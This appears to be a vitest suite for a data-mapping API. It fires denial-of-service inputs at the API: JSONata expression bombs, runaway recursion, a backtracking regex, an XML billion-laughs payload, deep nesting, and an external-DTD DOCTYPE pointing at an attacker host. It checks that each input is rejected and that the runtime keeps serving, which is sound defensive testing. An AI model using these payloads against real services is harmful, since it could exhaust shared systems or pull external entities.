// Cost and size bombs through the real endpoints: each one used to crash or stall the shared runtime;
// now each is a 422 that names the limit (docs/mapping-limits.md), and the runtime keeps answering.
// Timeouts are generous on purpose and nothing here asserts timings: only what the API answers.
import { describe, expect, it } from "vitest";
import { api, expectError, tenantWithToken } from "../helpers";
import { post, setup, waitFor } from "../inbound-helpers";

const SIM = "/v2/erp/updates/mapping_simulation";
const BOMB_TIMEOUT = 60_000;

/** A contact mapping whose `note` attribute is the given expression. */
const field = (jsonataExpression: string) => ({
  entities: [
    {
      entity_schema: "contact",
      unique_ids: ["external_id"],
      fields: [
        { attribute: "external_id", field: "id" },
        { attribute: "note", jsonataExpression },
      ],
    },
  ],
});

/** A contact mapping whose entity-level pre-processing expression is the given one. */
const items = (jsonataExpression: string) => ({
  entities: [{ entity_schema: "contact", unique_ids: ["external_id"], jsonataExpression, fields: [{ attribute: "external_id", jsonataExpression: "$string($)" }] }],
});

const simulate = (token: string, event_configuration: unknown, payload: unknown = { id: "C1" }, format = "json") =>
  api("POST", SIM, { token, json: { event_configuration, payload, format } });

/** Another tenant's ordinary simulation still works: the isolate survived and is not stalled. */
async function expectRuntimeAnswers() {
  const { token } = await tenantWithToken("Bystander");
  const res = await simulate(token, field("'fine'"), { id: "B1" });
  expect(res.status).toBe(200);
  expect(res.body.entity_updates[0].attributes).toEqual({ external_id: "B1", note: "fine" });
}

const BOMBS: [string, unknown, string][] = [
  ["an entity-level range of 10M items", items("[1..10000000]"), "max_array_length"],
  ["sorting a 10M range", field("$count($sort([1..10000000]))"), "max_array_length"],
  ["quadratic $distinct", field("$count($distinct([1..200000]))"), "max_array_length"],
  ["a 100 MB $pad", field("$pad('', 100000000, 'x')"), "max_string_length"],
  ["& doubling", field("( $s := $pad('', 600000, 'x'); $s & $s )"), "max_string_length"],
  ["$join growth", field("$join($map([1..100], function() { $pad('', 20000, 'x') }))"), "max_string_length"],
  ["$string of a string referenced 100k times", field("( $s := $pad('', 999999, 'x'); $string([1..100000].$s) )"), "max_string_length"],
  ["$split into a million parts", field("$split($pad('', 999999, 'x'), '')"), "max_array_length"],
  ["$replace growth", field("$replace($pad('', 999999, 'x'), 'x', 'yy')"), "max_string_length"],
  ["$match over a huge string", field("$count($match($pad('', 999999, 'x'), /x/))"), "max_steps"],
  ["nested $map over large arrays", field("$count($map([1..100000], function($v) { $map([1..100000], function($w) { $w }) }))"), "max_steps"],
  ["$reduce over a large array", field("$reduce([1..100000], function($acc, $v) { $acc & $pad('', 100, 'x') }, '')"), "max_string_length"],
  ["$sort with a lambda comparator", field("$count($sort([1..100000], function($a, $b) { $a < $b }))"), "max_steps"],
  ["order-by over 5,000 items", field("$count([1..5000]^(-$))"), "max_order_by_length"],
  ["$eval of a cost bomb", field("$eval('$count($distinct([1..200000]))')"), "max_array_length"],
  ["runaway tail recursion", field("( $f := function($n) { $f($n + 1) }; $f(0) )"), "max_steps"],
  ["runaway deep recursion", field("( $f := function($n) { 1 + $f($n + 1) }; $f(0) )"), "max_depth"],
  [
    "a response over 1 MB (two fields of 600,000 characters)",
    { entities: [{ ...field("$pad('', 600000, 'x')").entities[0]!, fields: [{ attribute: "external_id", field: "id" }, { attribute: "a", jsonataExpression: "$pad('', 600000, 'x')" }, { attribute: "b", jsonataExpression: "$pad('', 600000, 'y')" }] }] },
    "max_output_bytes",
  ],
  ["a pre-processing expression yielding 5,000 entities", items("[1..5000]"), "max_mapping_items"],
];

describe("mapping simulation against cost and size bombs", () => {
  it.each(BOMBS)("answers %s with 422 MAPPING_LIMIT_EXCEEDED, then keeps serving", { timeout: BOMB_TIMEOUT }, async (_name, config, limit) => {
    const { token } = await tenantWithToken("Attacker");
    const details = expectError(await simulate(token, config), 422, "MAPPING_LIMIT_EXCEEDED");
    expect(details).toMatchObject({ limit, value: expect.any(Number), path: expect.any(String), jsonata_code: expect.any(String) });
    await expectRuntimeAnswers();
  });

  it("runs the catastrophic-backtracking regex in linear time and answers it", { timeout: BOMB_TIMEOUT }, async () => {
    const { token } = await tenantWithToken("Attacker");
    for (const length of [29, 100_000]) {
      const res = await simulate(token, field(`$string($contains($pad('', ${length}, 'a') & '!', /(a+)+$/))`));
      expect(res.status).toBe(200);
      expect(res.body.entity_updates[0].attributes.note).toBe("false");
    }
    await expectRuntimeAnswers();
  });

  it("refuses a regex the linear engine cannot run with a 422 that says why", async () => {
    const { token } = await tenantWithToken();
    const details = expectError(await simulate(token, field("$string($contains(id, /C(?=1)/))")), 422, "UNPROCESSABLE");
    expect(details).toMatchObject({ jsonata_code: "R0001", path: "entities.0.fields.1.jsonataExpression" });
  });
});

describe("hostile payloads", () => {
  const xmlMapping = { entities: [{ entity_schema: "account", unique_ids: ["customer_number"], fields: [{ attribute: "customer_number", field: "$.r.id" }] }] };
  const billionLaughs =
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><r><id>&c;</id></r>';

  it.each([
    ["a DOCTYPE with entity expansion", billionLaughs],
    ["a DOCTYPE with an external DTD", '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/r.dtd"><r><id>1</id></r>'],
    ["XML nested 10,000 levels", `<r>${"<a>".repeat(10_000)}x${"</a>".repeat(10_000)}</r>`],
  ])("answers %s with 422 UNPROCESSABLE, then keeps serving", { timeout: BOMB_TIMEOUT }, async (_name, payload) => {
    const { token } = await tenantWithToken("Attacker");
    const details = expectError(await simulate(token, xmlMapping, payload, "xml"), 422, "UNPROCESSABLE");
    expect(details).toMatchObject({ path: "payload", format: "xml" });
    await expectRuntimeAnswers();
  });

  it("answers JSON nested 10,000 levels with 422 UNPROCESSABLE", { timeout: BOMB_TIMEOUT }, async () => {
    const { token } = await tenantWithToken("Attacker");
    const deep = `${"[".repeat(10_000)}${"]".repeat(10_000)}`;
    const details = expectError(await simulate(token, field("'x'"), deep), 422, "UNPROCESSABLE");
    expect(details).toMatchObject({ path: "payload", limit: "max_payload_depth", value: 100 });
    await expectRuntimeAnswers();
  });
});

describe("a stored mapping with a bomb, on every event", () => {
  it("fails each event with MAPPING_FAILED naming the limit, and the pipeline goes on", { timeout: BOMB_TIMEOUT }, async () => {
    const bomb = { name: "Bomb", slug: "bomb", type: "inbound", configuration: items("[1..10000000]") };
    const { token, integrationId } = await setup([bomb]);
    const results = await post(token, integrationId, [
      { use_case_slug: "bomb", payload: { id: "X1" } },
      { use_case_slug: "bomb", format: "xml", payload: "<r>" + "<a>".repeat(10_000) + "</a>".repeat(10_000) + "</r>" },
      { use_case_slug: "contacts", payload: { id: "C1", name: "Ada" } },
    ]);
    expect(results.map((r) => r.status)).toEqual(["success", "error", "success"]);
    const failed = await waitFor(token, results[0]!.event_id);
    expect(failed).toMatchObject({ status: "error", error_category: "configuration" });
    expect(failed.errors[0]).toMatchObject({ code: "MAPPING_FAILED", limit: "max_array_length", value: 100_000 });
    expect((await waitFor(token, results[2]!.event_id)).status).toBe("done");
  });
});
